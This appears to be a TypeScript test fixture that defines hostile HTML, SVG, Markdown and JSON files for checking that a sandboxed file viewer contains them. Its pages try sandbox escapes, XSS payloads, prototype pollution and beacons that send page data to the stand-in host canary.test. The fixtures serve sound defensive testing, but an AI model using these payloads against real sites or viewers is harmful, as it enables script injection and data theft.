/**
 * Files that try to get out of where they are shown. A page writes the origin it runs in once its attack is over, so that
 * "nothing happened" can be told from "nothing ran".
 */
const page = (attack: string, body = ""): string => `<!doctype html>
<meta charset="utf-8">
<title>hostile</title>
${body}
<p id="ran">did not run</p>
<script>
const attempt = (act) => { try { const made = act(); made?.catch?.(() => {}) } catch {} }
${attack}
document.getElementById("ran").textContent = "ran in " + self.origin
</script>
`

const steal = "encodeURIComponent(document.title)"

export const hostileFiles: ReadonlyMap<string, string> = new Map([
  [
    "storage.html",
    page(`for (const read of [() => document.cookie, () => localStorage.length, () => sessionStorage.length, () => indexedDB.open("x"),
  () => caches.keys(), () => navigator.serviceWorker.register("./sw.js")])
  attempt(() => { const stolen = read(); new Image().src = "https://canary.test/storage?" + stolen })`),
  ],
  [
    "parent.html",
    page(`attempt(() => { parent.__pwn = 1 }); attempt(() => { top.__pwn = 1 })
attempt(() => parent.document.body.append("pwned")); attempt(() => parent.eval("window.__pwn = 1"))
attempt(() => frameElement.removeAttribute("sandbox")); attempt(() => { opener.__pwn = 1 })`),
  ],
  [
    "top.html",
    page(
      `attempt(() => { top.location = "https://canary.test/top" }); attempt(() => top.location.replace("https://canary.test/top2"))
attempt(() => document.getElementById("out").click())`,
      '<a id="out" target="_top" href="https://canary.test/top3">out</a>',
    ),
  ],
  [
    "popup.html",
    page(
      `attempt(() => open("https://canary.test/popup")); attempt(() => open("javascript:window.__pwn=1"))
attempt(() => document.getElementById("blank").click())`,
      '<a id="blank" target="_blank" href="https://canary.test/blank">b</a>',
    ),
  ],
  [
    "fetch.html",
    page(`attempt(() => fetch("https://canary.test/fetch?" + ${steal}, { mode: "no-cors" }))
attempt(() => fetch("./config.json")); attempt(() => navigator.sendBeacon("https://canary.test/beacon", "x"))
attempt(() => { const call = new XMLHttpRequest(); call.open("GET", "https://canary.test/xhr"); call.send() })
attempt(() => new WebSocket("wss://canary.test/socket")); attempt(() => new EventSource("https://canary.test/events"))`),
  ],
  [
    "beacon.html",
    page(
      `attempt(() => { new Image().src = "https://canary.test/image?" + ${steal} })
attempt(() => new Audio("https://canary.test/audio").play())
for (const rel of ["prefetch", "preload", "stylesheet", "icon", "modulepreload", "manifest"])
  attempt(() => document.head.append(Object.assign(document.createElement("link"), { rel, as: rel === "preload" ? "image" : "", href: "https://canary.test/" + rel })))
attempt(() => document.fonts.add(new FontFace("f", "url(https://canary.test/font)"))); attempt(() => document.fonts.load("1em f"))`,
      `<img src="https://canary.test/img.png" alt=""><style>@import "https://canary.test/import.css"; body { background: url(https://canary.test/css.png) }</style>
<video src="https://canary.test/video" poster="https://canary.test/poster"></video><object data="https://canary.test/object"></object><embed src="https://canary.test/embed">`,
    ),
  ],
  [
    "script.html",
    page(
      `attempt(() => import("https://canary.test/module.js"))
attempt(() => document.head.append(Object.assign(document.createElement("script"), { src: "https://canary.test/s.js?" + ${steal} })))`,
      '<script src="https://canary.test/script.js"></script><base href="https://canary.test/base/"><script src="relative.js"></script>',
    ),
  ],
  [
    "worker.html",
    page(`const code = "fetch('https://canary.test/worker').catch(() => {}); try { importScripts('https://canary.test/import.js') } catch {}"
attempt(() => new Worker(URL.createObjectURL(new Blob([code]))))
attempt(() => new Worker("data:text/javascript," + encodeURIComponent(code))); attempt(() => new SharedWorker("https://canary.test/shared.js"))`),
  ],
  [
    "form.html",
    page(
      `attempt(() => document.forms[0].submit()); attempt(() => document.forms[0].requestSubmit())`,
      '<form action="https://canary.test/form" method="post"><input name="secret" value="x"></form>',
    ),
  ],
  [
    "frames.html",
    page(
      `attempt(() => { const inner = document.createElement("iframe"); document.body.append(inner); inner.contentWindow.fetch("https://canary.test/inner").catch(() => {}) })`,
      `<iframe src="https://canary.test/frame"></iframe><iframe srcdoc="<script>try{parent.parent.__pwn=1}catch{};new Image().src='https://canary.test/srcdoc'</script>"></iframe>`,
    ),
  ],
  [
    "messages.html",
    page(`for (const message of [{ t: "ready" }, { t: "render", html: "<b>" }, { t: "navigate", href: "https://canary.test/message" }, { t: "download" }, "javascript:window.__pwn=1", null])
  for (const to of [parent, top]) attempt(() => to.postMessage(message, "*"))
for (let h = 0; h < 2000; h += 1) parent.postMessage({ t: "size", h: h % 2 ? 1e12 : -1 }, "*")`),
  ],
  [
    "dialogs.html",
    page(
      `attempt(() => alert("pwned")); attempt(() => confirm("pwned")); attempt(() => prompt("token?")); attempt(() => print())`,
    ),
  ],
  [
    "rights.html",
    page(`attempt(() => navigator.geolocation.getCurrentPosition(() => {})); attempt(() => navigator.mediaDevices.getUserMedia({ audio: true }))
attempt(() => navigator.clipboard.readText()); attempt(() => Notification.requestPermission()); attempt(() => document.documentElement.requestFullscreen())
attempt(() => eval("parent.__pwn = 1"))`),
  ],
  [
    "saves.html",
    '<!doctype html><a download href="https://canary.test/save">s</a><script>document.querySelector("a").click()</script>',
  ],
  ["leaves.html", '<!doctype html><script>location = "https://canary.test/leave?" + self.origin</script>'],
  ["refresh.html", '<!doctype html><meta http-equiv="refresh" content="0; url=https://canary.test/refresh">'],
  [
    "drawing.svg",
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="window.__pwn=1">
<script>window.__pwn=1; fetch("https://canary.test/svg")</script><image href="https://canary.test/svg.png" width="9" height="9"/>
<style>@import "https://canary.test/svg.css";</style><use xlink:href="https://canary.test/use.svg#a"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://canary.test/foreign"/></foreignObject>
<a href="javascript:window.__pwn=1"><rect width="90" height="60" fill="green"/></a></svg>`,
  ],
  [
    "README.md",
    '# Read me\n\n<script>window.__pwn=1</script>\n\n<img src=x onerror="window.__pwn=1">\n\n[x](javascript:window.__pwn=1) ![y](https://canary.test/note.png)\n',
  ],
  ["page.txt", "<script>window.__pwn=1</script><img src=https://canary.test/text.png onerror=window.__pwn=1>\n"],
  [
    "keys.json",
    '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "<img src=x onerror=window.__pwn=1>": 1}',
  ],
])
